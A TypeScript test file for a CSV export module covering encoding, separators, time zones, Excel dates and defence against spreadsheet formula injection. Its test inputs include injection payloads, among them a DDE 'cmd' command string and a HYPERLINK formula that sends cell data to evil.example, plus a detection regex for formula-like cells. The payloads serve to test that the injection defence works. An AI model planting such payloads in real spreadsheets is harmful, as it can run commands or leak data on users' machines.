import { parse } from 'csv-parse/sync'
import { describe, expect, it } from '@jest/globals'
import fc from 'fast-check'

import { bytesOf } from '../testing/browser'
import { csvWriter, separatorFor, toDateText, toExcelDate, wallClock } from './cells'
import type { Column } from './table'

interface Row {
  code: string
  words: string | null
  units: number | null
  at: string | null
}

const COLUMNS: ReadonlyArray<Column<Row>> = [
  { heading: 'SKU', width: 9, kind: 'text', value: row => row.code },
  { heading: 'Nome; texto', width: 9, kind: 'text', value: row => row.words },
  { heading: 'Unidades', width: 9, kind: 'number', value: row => row.units },
  { heading: 'Data', width: 9, kind: 'moment', value: row => row.at },
]

const aRow = (words: string | null): Row => ({
  code: '0012',
  words,
  units: 12_345,
  at: '2026-02-24T10:30:05.000Z',
})

async function write(rows: readonly Row[], separator: ';' | ',' = ';') {
  const table = { name: 'Estoque', columns: COLUMNS, timeZone: 'America/Sao_Paulo' }
  const writer = csvWriter(table, separator)
  rows.forEach(writer.add)
  return new TextDecoder('utf-8', { ignoreBOM: true }).decode(await bytesOf(writer.finish()))
}

const readBack = (text: string, delimiter = ';'): string[][] =>
  parse(text, { bom: true, delimiter, record_delimiter: '\r\n' })

/** As programs read that are not strict about quotes. */
const LAX = {
  bom: true,
  relax_quotes: true,
  relax_column_count: true,
  skip_records_with_error: true,
}

const laxRows = (text: string, delimiter: string): string[][] => parse(text, { ...LAX, delimiter })

/** After spaces and what is not seen. */
const BEGINS_FORMULA =
  // oxlint-disable-next-line no-misleading-character-class -- each for itself
  /^[\s\u0080-\u00a0\u00ad\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufe00-\ufe0f\ufeff]*[=+\-@＝＋－＠﹦﹢﹣﹫\u2212]/

describe('a .csv file', () => {
  it('expect the mark of UTF-8, CRLF, and dates that every Excel reads', async () => {
    const text = await write([aRow('Café'), aRow(null)])
    expect(text.codePointAt(0)).toBe(0xfeff)
    expect(text.split('\r\n')).toHaveLength(4)
    expect(readBack(text)).toEqual([
      ['SKU', 'Nome; texto', 'Unidades', 'Data'],
      ['0012', 'Café', '12345', '2026-02-24 07:30:05'],
      ['0012', '', '12345', '2026-02-24 07:30:05'],
    ])
  })

  it.each(['a;b', 'say "x"', 'two\nlines', 'a,b', '"', ';;'])(
    'given %j, expect it back as it was, with either separator',
    async words => {
      expect(readBack(await write([aRow(words)]))[1]?.[1]).toBe(words)
      expect(readBack(await write([aRow(words)], ','), ',')[1]?.[1]).toBe(words)
    }
  )

  it.each([
    '=1+1',
    '+A1',
    '-A1',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '＝1',
    '﹦1',
    '﹣1',
    '\u22121',
    '\u00a0\u22121+1',
    '=cmd|"/c x"!A1',
  ])('given %j, expect an apostrophe before it, so that it is no formula', async words => {
    const [, row] = readBack(await write([aRow(words)]))
    expect(row?.[1]).toMatch(/^'/)
    expect(row?.[1]?.replace(/'/g, '')).toBe(words.replace('\r', '\n'))
  })

  it.each(['Café = leite', 'a-b', '10% +', 'x@y.example', '-5', '-1,5', 'a, b; c'])(
    'given the harmless %j, expect it unchanged',
    async words => expect(readBack(await write([aRow(words)]))[1]?.[1]).toBe(words)
  )

  it.each([
    '\u0001=HYPERLINK("http://evil.example/?"&A1,"abrir")',
    '\u0000@SUM(1)',
    '\u007f+A1',
    '\ufffe=A1',
    '\u200b=A1',
    '\ufeff=A1',
    '\u00ad=A1',
    '\u202e=A1',
  ])('given %j, which hides its first character, expect no formula', async words => {
    expect(readBack(await write([aRow(words)]))[1]?.[1]).toMatch(/^'/)
  })

  it('given a formula inside, expect none where a program splits at another separator', async () => {
    const text = await write([aRow('x,=1+1,y;@A1;"=2'), aRow('a\t=1')])
    for (const delimiter of [',', ';', '\t'])
      for (const row of laxRows(text, delimiter))
        for (const value of row) expect(value).not.toMatch(BEGINS_FORMULA)
  })

  const RUNS = Number(process.env.FUZZ_RUNS ?? (process.env.LONG_TESTS ? 500 : 100))
  // Each input is written and read four times: some milliseconds on a busy machine.
  const TIME = 30_000 + RUNS * 20

  it(
    'given any text, expect that no cell begins as a formula does',
    async () => {
      const part = fc.constantFrom(
        ...[
          '=',
          '+',
          '-',
          '@',
          '\t',
          '\r',
          '\n',
          ' ',
          '"',
          "'",
          ';',
          ',',
          '|',
          'A1',
          '1',
          '\u0001',
        ],
        ...['\u200b', '\ufeff', '\u00a0', '\ufffe', '\u007f', '＝', '\u2028', '\u180e', '\ufe0f']
      )
      const texts = fc.oneof(
        fc.array(part, { maxLength: 12 }).map(parts => parts.join('')),
        fc.string({ unit: 'binary' })
      )
      await fc.assert(
        fc.asyncProperty(
          texts,
          fc.constantFrom(';' as const, ',' as const),
          async (words, separator) => {
            const text = await write([aRow(words)], separator)
            const [, row] = readBack(text, separator)
            expect(row).toHaveLength(4)
            expect(row?.[1]).not.toMatch(/^[\t\r\n]/)
            for (const delimiter of [',', ';', '\t'])
              for (const row of laxRows(text, delimiter))
                for (const value of row) {
                  const isNumber = /^["']*-[0-9]+([.,][0-9]+)?["']*$/.test(value)
                  if (!isNumber) expect(value).not.toMatch(BEGINS_FORMULA)
                }
          }
        ),
        { numRuns: RUNS }
      )
    },
    TIME
  )

  it('given more than fits in one piece, expect every row in its order', async () => {
    const rows = Array.from({ length: 20_000 }, (_, at) => aRow(`SKU número ${at}`))
    const back = readBack(await write(rows))
    expect(back).toHaveLength(20_001)
    expect(back[20_000]?.[1]).toBe('SKU número 19999')
  })

  it.each([
    ['pt', ';'],
    ['es-MX', ';'],
    ['en', ','],
    ['en-US', ','],
  ])('given the language %s, expect the separator %s', (language, separator) => {
    expect(separatorFor(language)).toBe(separator)
  })
})

const shown = (iso: string, zone: string) => toDateText(wallClock(zone)(iso) ?? Number.NaN)

describe('a clock on the wall', () => {
  it.each([
    ['America/Sao_Paulo', '2026-11-24T02:30:00Z', '2026-11-23 23:30:00'],
    ['Asia/Kathmandu', '2026-11-24T00:00:00Z', '2026-11-24 05:45:00'],
    // The hour that the clock skips, and the one that it shows twice.
    ['Europe/Madrid', '2026-03-29T00:59:59Z', '2026-03-29 01:59:59'],
    ['Europe/Madrid', '2026-03-29T01:00:00Z', '2026-03-29 03:00:00'],
    ['Europe/Madrid', '2026-10-25T00:30:00Z', '2026-10-25 02:30:00'],
    ['Europe/Madrid', '2026-10-25T01:30:00Z', '2026-10-25 02:30:00'],
  ])('given %s at %s, expect %s', (zone, iso, wall) => expect(shown(iso, zone)).toBe(wall))

  it('given a text that is no moment, expect nothing', () => {
    expect(wallClock()('soon')).toBeNull()
  })

  it("expect the browser's own zone when none is named", () => {
    const at = new Date('2026-11-24T10:30:00Z')
    const wall = new Date(wallClock()(at.toISOString()) ?? 0)
    expect([wall.getUTCDate(), wall.getUTCHours()]).toEqual([at.getDate(), at.getHours()])
  })
})

describe('a date as Excel counts', () => {
  it.each([
    ['1970-01-01T00:00:00Z', 25_569],
    ['2026-11-24T12:00:00Z', 46_350.5],
  ])('given %s, expect %d', (iso, days) => expect(toExcelDate(Date.parse(iso))).toBe(days))
})
